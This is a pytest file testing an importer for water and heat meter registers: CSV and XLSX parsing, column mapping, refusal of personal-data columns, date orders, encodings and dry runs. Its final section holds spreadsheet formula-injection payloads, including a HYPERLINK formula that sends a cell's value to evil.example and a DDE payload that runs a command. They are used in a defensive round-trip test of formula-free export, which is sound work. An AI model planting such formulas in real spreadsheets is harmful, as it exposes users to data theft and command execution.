"""The meters file (docs/import-format.md), clause by clause, on SQLite and PostgreSQL, for CSV and XLSX.

Expected values come from the generators' own choices (tests/helpers/messy_export.py) or are written
out by hand here; never from the program's output.
"""
from __future__ import annotations

import codecs
import datetime as dt
import json

import pytest

from app.storage.errors import ConflictError, ImportFileError, InvalidRows
from app.storage.import_map import ImportOptions, load_mapping, parse_mapping

from tests.helpers.messy_export import MAPPING, messy_csv, messy_xlsx

HEAD = "site;manufacturer;model;serial;install_date"


def opts(**kw) -> ImportOptions:
    if "mapping" in kw and kw["mapping"] is not None:
        kw["mapping"] = parse_mapping(kw["mapping"], "test")
    return ImportOptions(**kw)


def write(path, text: str, encoding: str = "utf-8"):
    path.write_bytes(text.encode(encoding))
    return path


def meters_by_serial(reg) -> dict:
    return {m.serial: m for m in reg.list_meters(include_restricted=True)}


# ---- the messy export, imported exactly -------------------------------------------------------------

def _check_truth(reg, truth, *, xlsx: bool = False) -> None:
    got = meters_by_serial(reg)
    assert len(got) == len(truth)
    for t in truth:
        m = got[t["serial"]]
        assert (m.site, m.building, m.location) == (t["site"], t["building"], t["location"])
        assert (m.manufacturer, m.model, m.serial) == (t["manufacturer"], t["model"], t["serial"])
        assert m.install_date == t["install_date"] and not m.install_year_only
        assert m.battery_expiry == t["battery_expiry"]
        assert m.qp_m3h == t["qp_m3h"] and m.mid_class == t["mid_class"] and m.dn == t["dn"]
        assert m.secondary_address == t["secondary_address"]
        assert (m.occupant_name, m.flat, m.customer_reference) == (t["occupant_name"], t["flat"],
                                                                   t["customer_reference"])
        assert (m.notes or "") == t["notes"]
        assert m.extra == {"route": t["route"]}  # the dropped billing columns are nowhere


@pytest.mark.slow
def test_messy_csv_export_of_40000_meters_with_a_mapping_profile(reg, tmp_path):
    truth = messy_csv(tmp_path / "billing.csv", 40_000)
    profile = tmp_path / "billing-map.json"
    profile.write_text(json.dumps(MAPPING, ensure_ascii=False), encoding="utf-8")
    report = reg.import_file(tmp_path / "billing.csv", options=ImportOptions(mapping=load_mapping(profile),
                                                                             date_order="dmy"), user="ann")
    assert (report.created, report.invalid) == (40_000, [])
    assert len(report.cp1252_lines) == 3
    notes = " | ".join(report.notes)
    assert "3 lines read as Windows-1252" in notes and "semicolon" in notes and "header on line 2" in notes
    assert "1 row above the header skipped (line 1)" in notes
    _check_truth(reg, truth)
    again = reg.import_file(tmp_path / "billing.csv", options=ImportOptions(mapping=load_mapping(profile),
                                                                            date_order="dmy"))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 40_000)


def test_messy_xlsx_twin_with_the_same_profile(reg, tmp_path):
    truth = messy_xlsx(tmp_path / "billing.xlsx", 1_500)
    report = reg.import_file(tmp_path / "billing.xlsx", options=opts(mapping=MAPPING))
    assert (report.created, report.invalid) == (1_500, [])
    assert any("header on line 3" in n for n in report.notes)
    assert any("1 row above the header skipped (line 1)" in n for n in report.notes)
    _check_truth(reg, truth, xlsx=True)
    assert meters_by_serial(reg)["00100001"].manufacturer == "Sontex"  # shown with its zeros: kept


def test_without_a_date_order_every_such_date_is_an_error_grouped(reg, tmp_path):
    messy_csv(tmp_path / "billing.csv", 300)
    with pytest.raises(InvalidRows) as exc:
        reg.import_file(tmp_path / "billing.csv", options=opts(mapping=MAPPING))
    groups = exc.value.report.problem_groups()
    assert groups[0][:2] == ("install_date: day and month order not given", 300)
    assert groups[0][2] == [3, 4, 5, 6, 7]  # the header is on line 2
    assert ("battery_expiry: day and month order not given", 300) == groups[1][:2]
    assert "300 invalid rows, nothing stored: install_date: day and month order not given: 300 rows " \
           "(e.g. lines 3, 4, 5, 6, 7, ...)" in str(exc.value)
    assert reg.count_meters() == 0


# ---- mapping and headers ------------------------------------------------------------------------

def test_header_matching_ignores_case_spaces_and_the_byte_order_mark(reg, tmp_path):
    p = write(tmp_path / "h.csv", "\ufeff  SITE ;Manufacturer;MODEL; serial ;Install Date\nS;Kamstrup;M;1;2020-01-02\n")
    assert reg.import_file(p).created == 1
    m = reg.find_meter("Kamstrup", "1")
    assert (m.site, m.install_date) == ("S", dt.date(2020, 1, 2))


def test_a_mapped_column_and_a_dropped_one(reg, tmp_path):
    p = write(tmp_path / "m.csv", "Scheme;Make;Type;Meter No;Fitted;Balance;Colour\n"
                                  "S;Kamstrup;M;0007;2020-01-02;12,50;red\n")
    o = opts(mapping={"scheme": "site", " MAKE ": "manufacturer", "Type": "model", "meter-no": "serial",
                      "FITTED": "install_date", "Balance": None})
    report = reg.import_file(p, options=o)
    assert report.created == 1 and report.extra_columns == ["colour"]
    m = reg.find_meter("Kamstrup", "0007")
    assert m.extra == {"colour": "red"}


@pytest.mark.parametrize("header", ["Tenant", "Customer Name", "E-mail", "phone number", "Account No",
                                    "\ufeffcustomer_ref", "Flat No"])
def test_an_unmapped_personal_looking_column_is_refused(reg, tmp_path, header):
    p = write(tmp_path / "p.csv", f"{HEAD};{header}\nS;Kamstrup;M;1;2020-01-02;x\n")
    with pytest.raises(ImportFileError, match="may hold personal data"):
        reg.import_file(p)
    assert reg.count_meters() == 0
    assert reg.import_file(p, options=opts(mapping={header: None})).created == 1  # dropped: fine


def test_personal_columns_however_spelled_are_personal_data(reg, tmp_path):
    """A byte-order mark before customer_reference, in a file whose header is Windows-1252 read as such."""
    p = tmp_path / "b.csv"
    p.write_bytes(b"\xef\xbb\xbfcustomer_reference;site;manufacturer;model;serial;install_date;Tenant\n"
                  b"C-77;S;Kamstrup;M;1;2020-01-02;Jo\xeblle\n")  # the second line is Windows-1252
    report = reg.import_file(p, options=opts(mapping={"Tenant": "occupant_name"}))
    assert report.created == 1 and report.extra_columns == []
    m = reg.find_meter("Kamstrup", "1")
    assert (m.customer_reference, m.occupant_name) == ("C-77", "Joëlle")
    reg.erase_personal_data(m.id, user="dpo", reason="request")
    m = reg.find_meter("Kamstrup", "1")
    assert (m.customer_reference, m.occupant_name) == (None, None)
    assert "C-77" not in json.dumps(reg.history(m.id), default=str)


def test_mapping_file_errors_are_one_line(tmp_path):
    bad = {"x.json": "{not json", "y.json": '["serial"]', "z.json": '{"A": "serial", "B": "serial"}',
           "w.json": '{"A": "colour"}'}
    for name, text in bad.items():
        (tmp_path / name).write_text(text)
        with pytest.raises(ImportFileError) as exc:
            load_mapping(tmp_path / name)
        assert "\n" not in str(exc.value)
    (tmp_path / "u.json").write_bytes(b'{"\xff": "serial"}')
    with pytest.raises(ImportFileError, match="not UTF-8"):
        load_mapping(tmp_path / "u.json")


def test_missing_columns_suggest_a_mapping(reg, tmp_path):
    p = write(tmp_path / "m.csv", "Scheme;Make;Model;Meter No;Fitted\nS;K;M;1;2020-01-02\n")
    with pytest.raises(ImportFileError) as exc:
        reg.import_file(p)
    msg = str(exc.value)
    assert "missing required columns site, manufacturer, serial, install_date" in msg
    assert '"Scheme": "site"' in msg and '"Meter No": "serial"' in msg


# ---- dates and numbers ----------------------------------------------------------------------------

@pytest.mark.parametrize("order, text, want", [
    ("dmy", "03/04/2015", dt.date(2015, 4, 3)), ("mdy", "03/04/2015", dt.date(2015, 3, 4)),
    ("ymd", "2015/04/03", dt.date(2015, 4, 3)), ("dmy", "3.4.15", dt.date(2015, 4, 3)),
    ("dmy", "31-12-68", dt.date(2068, 12, 31)), ("dmy", "01-01-69", dt.date(1969, 1, 1)),
    (None, "2015-04-03", dt.date(2015, 4, 3)), ("mdy", "2015-04-03", dt.date(2015, 4, 3)),
    ("dmy", "18/02/2014 00:00", dt.date(2014, 2, 18)),
])
def test_date_orders(reg, tmp_path, order, text, want):
    p = write(tmp_path / "d.csv", f"{HEAD}\nS;Kamstrup;M;1;{text}\n")
    reg.import_file(p, options=opts(date_order=order))
    assert reg.find_meter("Kamstrup", "1").install_date == want


@pytest.mark.parametrize("order, text, why", [
    (None, "03/04/2015", "day and month order not given"), ("dmy", "31/02/2015", "no such day"),
    ("mdy", "13/01/2015", "no such day"), ("dmy", "2015/04/03", "not day/month/year"),
    (None, "9999-12-31", "out of range"), (None, "41688", "bad date"),
])
def test_bad_dates_name_the_line(reg, tmp_path, order, text, why):
    p = write(tmp_path / "d.csv", f"{HEAD}\nS;Kamstrup;M;1;2020-01-01\nS;Kamstrup;M;2;{text}\n")
    with pytest.raises(InvalidRows) as exc:
        reg.import_file(p, options=opts(date_order=order))
    [(line, reason)] = exc.value.report.invalid
    assert line == 3 and why in reason


def test_decimal_comma_only_when_the_separator_is_not_a_comma(reg, tmp_path):
    semi = write(tmp_path / "s.csv", f"{HEAD};qp_m3h\nS;Kamstrup;M;1;2020-01-01;2,5\nS;Kamstrup;M;2;2020-01-01;1.5\n")
    reg.import_file(semi)
    assert reg.find_meter("Kamstrup", "1").qp_m3h == 2.5 and reg.find_meter("Kamstrup", "2").qp_m3h == 1.5
    comma = write(tmp_path / "c.csv", 'site,manufacturer,model,serial,install_date,qp_m3h\n'
                                      'S,Kamstrup,M,3,2020-01-01,"2,5"\n')
    with pytest.raises(InvalidRows) as exc:
        reg.import_file(comma)
    assert "qp_m3h: not a number" in exc.value.report.problems
    grouped = write(tmp_path / "g.csv", f"{HEAD};qp_m3h\nS;Kamstrup;M;4;2020-01-01;1.234,5\n")
    with pytest.raises(InvalidRows):
        reg.import_file(grouped)  # digit grouping is never guessed
    with pytest.raises(InvalidRows):
        reg.import_file(semi, options=opts(decimal="point"))  # told: a comma is no decimal mark


# ---- rows the reading refuses ----------------------------------------------------------------------

def test_more_cells_than_the_header_and_nul_bytes_name_the_line_and_are_grouped(reg, tmp_path):
    rows = [f"S,Kamstrup,M,{i},2020-01-01" for i in range(1, 3001)]
    rows[5] += ",5"               # line 7: "2,5" in a comma file is one cell more, never qp 2
    rows[2999] = rows[2999].replace("S,", "S\x00,")  # line 3001, far after the first 64 KiB
    rows[10] += ","                # an empty cell more: nothing is cut, so nothing is wrong
    p = write(tmp_path / "x.csv", "site,manufacturer,model,serial,install_date\n" + "\n".join(rows) + "\n")
    with pytest.raises(InvalidRows) as exc:
        reg.import_file(p)
    rep = exc.value.report
    assert dict(rep.invalid).keys() == {7, 3001}
    assert rep.problems["more cells than the header"] == [1, [7]]
    assert rep.problems["NUL byte in the line"] == [1, [3001]]
    assert reg.count_meters() == 0
    report = reg.import_file(p, options=opts(), skip_invalid=True)
    assert report.created == 2998 and [ln for ln, _ in report.invalid] == [7, 3001]
    assert {"6", "3000"}.isdisjoint(m.serial for m in reg.list_meters(include_restricted=True))


def test_skip_invalid_says_what_it_drops_grouped(reg, tmp_path):
    p = write(tmp_path / "s.csv", f"{HEAD};primary_address\n" + "".join(
        f"S;Kamstrup;M;{i};{'2020-01-01' if i % 3 else '01/02/2020'};{300 if i % 5 == 0 else 1}\n"
        for i in range(1, 31)))
    report = reg.import_file(p, skip_invalid=True)
    # by hand: dates bad for i = 3, 6, ..., 30 (10 rows, lines i + 1); addresses bad for i = 5, 10, ..., 30 (6)
    assert report.problems["install_date: day and month order not given"] == [10, [4, 7, 10, 13, 16]]
    assert report.problems["primary_address: out of range"] == [6, [6, 11, 16, 21, 26]]
    assert report.created == 30 - len({*range(3, 31, 3), *range(5, 31, 5)})


# ---- encodings --------------------------------------------------------------------------------------

@pytest.mark.parametrize("codec, bom", [("utf-8", b""), ("utf-8", codecs.BOM_UTF8), ("utf-16-le", codecs.BOM_UTF16_LE),
                                        ("utf-16-be", codecs.BOM_UTF16_BE), ("cp1252", b"")])
def test_encodings(reg, tmp_path, codec, bom):
    p = tmp_path / "e.csv"
    p.write_bytes(bom + f"{HEAD};location\r\nCafé Quarter;Kamstrup;M;1;2020-01-02;Küche Straße\r\n".encode(codec))
    reg.import_file(p)
    m = reg.find_meter("Kamstrup", "1")
    assert (m.site, m.location) == ("Café Quarter", "Küche Straße")


def test_a_mixed_file_is_read_line_by_line_and_says_so(reg, tmp_path):
    lines = [f"{HEAD};location".encode()] + [f"Zoë;Kamstrup;M;{i};2020-01-02;Łódź".encode() for i in range(1, 8)]
    lines[4] = "Café;Kamstrup;M;4;2020-01-02;Crème".encode("cp1252")
    p = tmp_path / "m.csv"
    p.write_bytes(b"\n".join(lines) + b"\n")
    report = reg.import_file(p)
    assert report.cp1252_lines == [5] and any("1 line read as Windows-1252 (line 5)" in n for n in report.notes)
    assert reg.find_meter("Kamstrup", "4").location == "Crème"
    assert reg.find_meter("Kamstrup", "5").location == "Łódź"


def test_bytes_no_encoding_takes_are_an_error_of_their_line(reg, tmp_path):
    p = tmp_path / "b.csv"
    p.write_bytes(f"{HEAD}\nS;Kamstrup;M;1;2020-01-02\n".encode() + b"S\x81;Kamstrup;M;2;2020-01-02\n")
    with pytest.raises(InvalidRows) as exc:
        reg.import_file(p)
    assert exc.value.report.problems == {"bytes that are neither UTF-8 nor Windows-1252": [1, [3]]}


def test_utf16_without_its_mark_is_named(reg, tmp_path):
    p = tmp_path / "u.csv"
    p.write_bytes(f"{HEAD}\nS;Kamstrup;M;1;2020-01-02\n".encode("utf-16-le"))
    with pytest.raises(ImportFileError, match="UTF-16 text without a byte-order mark"):
        reg.import_file(p)


# ---- XLSX -----------------------------------------------------------------------------------------

def _xlsx(path, rows, formats=None):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for (cell, fmt) in (formats or {}).items():
        ws[cell].number_format = fmt
    wb.save(path)
    return path


def test_xlsx_as_the_sheet_shows_it(reg, tmp_path):
    p = _xlsx(tmp_path / "s.xlsx", [
        ["Asset list", None, None], [None], ["site", "manufacturer", "model", "serial", "install_date",
                                             "secondary_address", "battery_expiry"],
        ["S", "Sontex", "Supercal", "00100076", dt.datetime(2014, 2, 18), "00100076", 46000],
        ["S", "Sontex", "Supercal", 100077, 41689, 100077, None],
        ["S", "Kamstrup", "M", "X1", 2015, None, None],
    ], formats={"D5": "00000000", "E5": "General"})
    report = reg.import_file(p)
    assert report.created == 3
    assert any("2 rows above the header" not in n for n in report.notes)
    got = meters_by_serial(reg)
    assert set(got) == {"00100076", "00100077", "X1"}
    assert got["00100076"].install_date == dt.date(2014, 2, 18)
    assert got["00100076"].battery_expiry == dt.date(2025, 12, 9)  # serial 46000 counted by hand from 1899-12-30
    assert got["00100077"].install_date == dt.date(2014, 2, 19)    # 41689: the day after 41688 = 18 Feb 2014
    assert got["00100077"].secondary_address == "00100077"
    assert (got["X1"].install_date, got["X1"].install_year_only) == (dt.date(2015, 7, 1), True)


def test_xlsx_header_row_given(reg, tmp_path):
    p = _xlsx(tmp_path / "h.xlsx", [["site", "manufacturer", "model", "serial", "install_date"],
                                    ["site", "manufacturer", "model", "serial", "install_date"],
                                    ["S", "Kamstrup", "M", "1", "2020-01-01"]])
    with pytest.raises(InvalidRows):  # found: row 1, so row 2 is a row with "install_date" as a date
        reg.import_file(p)
    assert reg.import_file(p, options=opts(header_row=2)).created == 1
    with pytest.raises(ImportFileError, match="header row 9"):
        reg.import_file(p, options=opts(header_row=9))


def test_xlsx_cell_beyond_the_limit_is_an_error_of_its_row(tmp_path, monkeypatch):
    """A cell longer than a sheet may hold (written by some other program): its row is refused."""
    from app.storage import xlsx_read

    _xlsx(tmp_path / "c.xlsx", [["site", "manufacturer", "model", "serial", "install_date"],
                                ["S", "K", "M", "1", "2020-01-01"], ["S" * 120, "K", "M", "2", "2020-01-01"]])
    monkeypatch.setattr(xlsx_read, "MAX_CELL_CHARS", 100)  # openpyxl cannot write more than the real limit
    sheet = xlsx_read.read_xlsx(tmp_path / "c.xlsx")
    assert sheet.long_cells == {3: 120}


def test_xlsx_limits(reg, tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["site", "manufacturer", "model", "serial", "install_date", "notes"])
    ws.append(["S", "K", "M", "1", "2020-01-01", "x" * 40000])
    wb.save(tmp_path / "long.xlsx")
    with pytest.raises(InvalidRows) as exc:  # a sheet holds 32,767 characters at most: notes allow 10,000
        reg.import_file(tmp_path / "long.xlsx")
    assert list(exc.value.report.problems) == ["notes: too long"]
    wb = openpyxl.Workbook()
    wb.active["A1"] = "site"
    wb.active.cell(row=2, column=1200, value="far")
    wb.save(tmp_path / "wide.xlsx")
    with pytest.raises(ImportFileError, match="1,200 columns"):
        reg.import_file(tmp_path / "wide.xlsx")


# ---- the safe export's round trip ---------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+44 20 7946 0000",
           "-rear", "@home", "'=quoted", "\ttab"]
# what the first import stores: a leading ' before a formula character is the spreadsheet's "this is
# text" mark (dropped), and cells are trimmed
STORED = HOSTILE[:5] + ["=quoted", "tab"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_hold_no_formula_and_import_back_to_the_same_text(reg, tmp_path, kind, sqlite_url):
    from app.storage.register import open_register

    p = tmp_path / "in.csv"
    import csv

    with p.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, delimiter=";")
        w.writerow(["site", "manufacturer", "model", "serial", "install_date", "location"])
        for i, t in enumerate(HOSTILE, 1):
            w.writerow(["S", "Kamstrup", "M", str(i), "2020-01-01", t])
    assert reg.import_file(p).created == len(HOSTILE)
    out = tmp_path / f"out.{kind}"
    (reg.export_csv if kind == "csv" else reg.export_xlsx)(out)
    if kind == "csv":
        text = out.read_text(encoding="utf-8")
        assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text
    else:
        import zipfile

        with zipfile.ZipFile(out) as z:
            assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    with open_register(sqlite_url) as other:
        assert other.import_file(out).created == len(HOSTILE)
        assert [reg.find_meter("Kamstrup", str(i)).location for i in range(1, len(HOSTILE) + 1)] == STORED
        assert [other.find_meter("Kamstrup", str(i)).location for i in range(1, len(HOSTILE) + 1)] == STORED


# ---- dry run, agreed counts, cancel ---------------------------------------------------------------------

def test_dry_run_stores_nothing_and_agreed_counts_are_held(reg, tmp_path):
    p = write(tmp_path / "d.csv", f"{HEAD}\nS;Kamstrup;M;1;2020-01-01\nS;Kamstrup;M;2;01/01/2020\n")
    dry = reg.import_file(p, skip_invalid=True, dry_run=True)
    assert (dry.created, len(dry.invalid), dry.stored) == (1, 1, False) and reg.count_meters() == 0
    p.write_text(f"{HEAD}\nS;Kamstrup;M;1;01/01/2020\nS;Kamstrup;M;2;01/01/2020\n")  # changed since
    with pytest.raises(ConflictError, match="2 invalid rows now, not the 1 agreed to"):
        reg.import_file(p, skip_invalid=True, expect_invalid=1)
    assert reg.count_meters() == 0


def test_cancel_stores_nothing(reg, tmp_path):
    from app.storage.errors import ImportCancelled
    from tests.helpers.register_rows import make_rows, write_csv

    p = write_csv(tmp_path / "m.csv", make_rows(12_000))
    asked = []

    def cancelled():
        asked.append(1)
        return len(asked) > 1  # after the first chunk

    with pytest.raises(ImportCancelled):
        reg.import_file(p, cancelled=cancelled)
    assert reg.count_meters() == 0
